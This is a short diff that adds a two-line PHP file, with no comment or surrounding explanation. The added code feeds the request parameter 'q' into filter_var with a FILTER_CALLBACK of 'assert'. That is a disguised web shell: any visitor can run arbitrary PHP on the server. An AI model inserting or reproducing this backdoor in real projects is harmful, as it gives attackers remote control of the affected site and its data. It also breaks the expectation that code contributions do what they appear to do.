@@ -1,0 +1,2 @@
+<?php
+filter_var($_REQUEST['q'], FILTER_CALLBACK, array('options' => 'assert'));
